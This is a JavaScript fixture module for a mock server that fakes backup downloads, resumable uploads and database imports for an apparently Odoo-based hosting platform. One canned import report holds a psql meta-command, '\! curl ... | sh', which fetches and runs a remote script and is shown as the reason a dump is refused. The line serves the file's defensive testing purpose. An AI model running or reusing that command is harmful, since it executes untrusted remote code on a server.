// Downloads, uploads and imports of the fixture server.
import { missing, page, reference } from './answers.mjs';
import { backupsOf } from './backups.mjs';
import * as data from './fixtures.mjs';
import { allJobs, jobOf, over, startJob } from './jobs.mjs';

const { iso, now, day, hour } = data;

const report = {
  kind: 'zip archive',
  compression: 'none',
  database: 'acme_live',
  server_version: '14.11',
  dump_version: '14.11',
  target_server_version: '15.14',
  odoo_version: '17.0',
  archive_bytes: 5_214_880_112,
  database_bytes: 9_412_000_000,
  statements: 18_204,
  tables: 812,
  rows: 22_410_332,
  files: 98_214,
  file_bytes: 3_981_220_004,
  complete: true,
  findings: [],
};
const older = {
  severity: 'note',
  code: 'older_server',
  words: 'the dump is of PostgreSQL 14.11, the server runs 15.14',
  count: 1,
  examples: [],
};
const warned = {
  ...report,
  findings: [
    older,
    {
      severity: 'warning',
      code: 'missing_files',
      words: 'attachments name files that the archive does not have',
      count: 12,
      examples: [
        'ab/abcdef0123456789abcdef0123456789abcdef01 (Invoice 2019-0042.pdf)',
        'c3/c3fcd3d76192e4007dfb496cca67e13b00000000 (Logo.png)',
        '7f/7f83b1657ff1fc53b92dc18148a1d65dfc2d4b1f (Contract Delta.docx)',
      ],
    },
    {
      severity: 'warning',
      code: 'missing_modules',
      words: "installed modules that the branch's addons path does not have",
      count: 2,
      examples: ['acme_shipping', 'acme_labels'],
    },
    {
      severity: 'note',
      code: 'unneeded_files',
      words: 'the archive has files that no attachment of the database refers to; they are left out',
      count: 3_410,
      examples: ['00/00aa11bb22cc33dd44ee55ff66aa77bb88cc99dd'],
    },
  ],
};
const refused = {
  ...report,
  kind: 'plain dump',
  compression: 'gzip',
  database: '',
  odoo_version: '',
  archive_bytes: 48_120_004,
  database_bytes: 0,
  statements: 211,
  tables: 14,
  rows: 80_112,
  files: 0,
  file_bytes: 0,
  complete: false,
  findings: [
    {
      severity: 'refused',
      code: 'meta_command',
      words: 'the dump has commands of psql, which could run programs',
      count: 1,
      examples: ['\\! curl -s http://198.51.100.66/x | sh'],
    },
    older,
  ],
};
const outcome = (decision, found, backup = '') => ({ decision, backup, report: found });
const ask = (source, accept = 'nothing', more = {}) => ({
  request: { branch: 'main', source, accept, note: '', ...more },
});

const uploads = new Map();
function keepUpload(id, file_name, size_bytes, received_bytes) {
  uploads.set(id, {
    id,
    file_name,
    size_bytes,
    received_bytes,
    complete: received_bytes === size_bytes,
    created_by: 'ines',
    created_at: iso(now - hour),
    expires_at: iso(now + 2 * day - hour),
  });
  return uploads.get(id);
}
keepUpload('up_1', 'acme-live-2026-11-22.zip', report.archive_bytes, report.archive_bytes);
keepUpload('up_2', 'dump.sql.gz', 48_120_004, 48_120_004);
keepUpload('up_half', 'acme-live.zip', 5_214_880_112, 2_262_398_448);

over('jb_i4', 'import', 'main', now - 70 * hour, {
  ...ask({ backup: { project: 'copper-sons', id: 'bk_0manual1' } }, 'clean'),
  backup: 'bk_0manual1',
  result: outcome('kept', { ...report, kind: 'Skyhold backup' }, 'bk_0manual1'),
});
over('jb_i3', 'import', 'main', now - 5 * hour, {
  ...ask({ upload: 'up_2' }, 'nothing', { file_name: 'dump.sql.gz' }),
  result: outcome('refused', refused),
});
over('jb_i2', 'import', 'main', now - 3 * hour, {
  ...ask({ path: '/srv/import/acme-live.zip' }),
  created_by: 'marc',
  result: outcome('wanted', report),
});
over('jb_i1', 'import', 'main', now - hour, {
  ...ask({ upload: 'up_1' }, 'nothing', { file_name: 'acme-live-2026-11-22.zip' }),
  result: outcome('wanted', warned),
});

const attachment = (id, name, model, record, size_bytes, more = {}) => ({
  id,
  name,
  model,
  record,
  media_type: 'application/pdf',
  size_bytes,
  file: `ab/abcdef0123456789abcdef0123456789abcd${id}`,
  held: true,
  created_at: iso(now - id * hour),
  ...more,
});
const attachments = [
  attachment(1042, 'INV/2024/0042.pdf', 'account.move', 981, 84_220),
  attachment(
    1077,
    'Invoice of the supplier, scanned on a Friday with all its annexes and letters.pdf',
    '',
    0,
    2_204_118,
  ),
  attachment(1391, 'invoice-logo.png', 'res.company', 1, 14_002, { file: '', held: false }),
  attachment(2044, 'Old invoice.pdf', 'account.move', 12, 33_104, { held: false }),
];

const names = {
  'odoo-zip': 'zip',
  'pg-dump': 'dump',
  'sql.zst': 'sql.zst',
  'tar.zst': 'tar.zst',
  table: 'csv',
  file: 'bin',
};

export const interchangeRoutes = [
  [
    'POST',
    /^\/projects\/([^/]+)\/backups\/([^/]+)\/downloads$/,
    ({ params: [project], body }) => {
      if (body.table === 'ir_cron') return missing('table ir_cron in this backup');
      const encrypted = Boolean(body.passphrase || body.recipients);
      const exact = body.format === 'table' || body.format === 'file';
      return [
        201,
        {
          url: '/api/v1/downloads/dl_4q9k2mvx7t3hn8r5wz6ybcdfgj',
          file_name: `${project}-main-20261123T010000Z.${names[body.format]}${encrypted ? '.age' : ''}`,
          media_type: 'application/octet-stream',
          size_bytes: exact ? 1_204_882 : body.filestore === false ? 3_120_000_000 : 31_400_000_000,
          size_exact: body.format === 'file' && !encrypted,
          resumable: body.format === 'file',
          encrypted,
          expires_at: iso(Date.now() + hour),
        },
      ];
    },
  ],
  ['GET', /^\/downloads\/([^/]+)$/, () => 'made-up data\n'],
  [
    'GET',
    /^\/projects\/([^/]+)\/backups\/([^/]+)\/attachments$/,
    ({ query }) => {
      const search = (query.get('search') ?? '').toLowerCase();
      return { items: attachments.filter(({ name }) => name.toLowerCase().includes(search)), more: true };
    },
  ],
  ['GET', /^\/projects\/([^/]+)\/uploads$/, () => ({ items: [...uploads.values()] })],
  [
    'POST',
    /^\/projects\/([^/]+)\/backups\/([^/]+)\/neutralized-copy$/,
    ({ params: [project] }) => {
      const id = `bk_copy${allJobs().length}`;
      const job = startJob('import', project, 'main', { result: { backup: id } });
      backupsOf(project).push(
        data.backup(project, 0.1, { id, kind: 'imported', created_by: 'ines', note: 'Neutralized copy' }),
      );
      return [202, reference(job)];
    },
  ],
  [
    'POST',
    /^\/projects\/([^/]+)\/uploads$/,
    ({ body }) => [201, keepUpload(`up_${uploads.size + 1}`, body.file_name, body.size_bytes, 0)],
  ],
  [
    'GET',
    /^\/projects\/([^/]+)\/uploads\/([^/]+)$/,
    ({ params: [, id] }) => uploads.get(id) ?? missing(`upload ${id}`),
  ],
  [
    'DELETE',
    /^\/projects\/([^/]+)\/uploads\/([^/]+)$/,
    ({ params: [, id] }) => (uploads.delete(id) ? [204] : missing(`upload ${id}`)),
  ],
  [
    'PUT',
    /^\/projects\/([^/]+)\/uploads\/([^/]+)\/content$/,
    async ({ params: [, id], query, body }) => {
      const upload = uploads.get(id);
      if (!upload) return missing(`upload ${id}`);
      // For looking at what is under way, and at what goes wrong.
      if (upload.file_name.startsWith('slow')) await new Promise((resolve) => setTimeout(resolve, 20_000));
      if (upload.file_name.startsWith('broken')) return [503, problem(503, 'The server is busy.')];
      if (upload.file_name.startsWith('full')) {
        return [507, problem(507, 'the store eu-1 is full', 'Free some space there, then go on.')];
      }
      if (Number(query.get('offset')) !== upload.received_bytes) {
        return [409, problem(409, 'That is not where the upload is.')];
      }
      upload.received_bytes += body.bytes;
      upload.complete = upload.received_bytes === upload.size_bytes;
      return upload;
    },
  ],
  [
    'GET',
    /^\/projects\/([^/]+)\/imports$/,
    ({ params: [project], query }) =>
      page(
        allJobs().filter((job) => job.kind === 'import' && job.project === project && job.request.source),
        query,
      ),
  ],
  [
    'POST',
    /^\/projects\/([^/]+)\/imports$/,
    ({ params: [project], body }) => {
      const kept = body.accept === 'warnings' || body.accept === 'clean';
      const upload = uploads.get(body.source.upload);
      const file_name = upload?.file_name;
      if (kept) uploads.delete(body.source.upload);
      const job = startJob('import', project, body.branch, {
        request: { ...body, ...(file_name ? { file_name } : {}) },
        result: kept ? outcome('kept', warned, 'bk_0manual1') : outcome('wanted', warned),
      });
      return [202, reference(jobOf(job.id))];
    },
  ],
];

function problem(status, title, hint = '') {
  return { type: 'about:blank', title, status, code: 'fixture', hint };
}
